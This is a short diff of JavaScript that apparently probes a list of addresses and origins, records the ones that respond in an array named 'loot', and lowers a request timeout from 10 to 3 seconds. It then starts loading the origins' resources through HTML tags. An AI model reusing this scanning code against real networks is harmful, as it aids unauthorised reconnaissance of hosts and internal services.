@@ -32,7 +32,7 @@ async (insider) => {
         (answer) => { if (answer.ok) loot.push(address + path + ' answered ' + answer.status); }, () => {}));
     }
   }
-  await Promise.race([Promise.all(asks), later(10000)]);
+  await Promise.race([Promise.all(asks), later(3000)]);
 
   const tags = { img: 'src', script: 'src', iframe: 'src', embed: 'src', object: 'data', video: 'src', link: 'href' };
   for (const address of origins.slice(0, 8)) {
